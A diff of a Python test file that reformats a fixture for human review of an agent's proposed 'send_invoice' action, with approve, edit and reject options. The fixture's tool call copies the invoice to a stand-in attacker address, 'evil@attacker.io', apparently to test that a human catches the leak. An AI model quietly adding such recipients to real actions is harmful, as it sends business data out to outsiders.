@@ -107,9 +107,7 @@ def test_a_short_card_offers_no_full_text():
 
 
 INVOICE = {
-    "action_requests": [
-        {"name": "send_invoice", "args": {"cc": ["ops@x.io", "evil@attacker.io"]}}
-    ],
+    "action_requests": [{"name": "send_invoice", "args": {"cc": ["ops@x.io", "evil@attacker.io"]}}],
     "review_configs": [
         {"action_name": "send_invoice", "allowed_decisions": ["approve", "edit", "reject"]}
     ],
